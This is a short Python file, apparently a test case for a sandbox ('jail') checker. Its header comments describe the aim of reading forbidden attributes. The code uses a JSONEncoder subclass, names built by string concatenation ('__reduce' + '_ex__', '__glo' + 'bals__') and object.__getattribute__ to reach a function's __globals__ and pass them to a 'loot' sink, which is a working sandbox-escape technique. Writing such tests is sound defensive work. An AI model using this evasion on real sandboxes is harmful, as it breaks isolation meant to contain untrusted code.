# aim: use the ordinary override of __getattribute__ to read a forbidden name of the class's own method
# mechanism: super().__getattribute__(name) with a computed name is common code
# language: builtins
# reason: the name is computed, so it has to be looked at while running
# jail: process
# plain: loot

import json


class Encoder(json.JSONEncoder):
    def __getattribute__(self, name):
        return super().__getattribute__(name)

    def escape(self):
        method = self.__getattribute__("__reduce" + "_ex__")
        return method(2)[0]


found = Encoder().escape()
read = object.__getattribute__
loot(read(found, "__glo" + "bals__"))
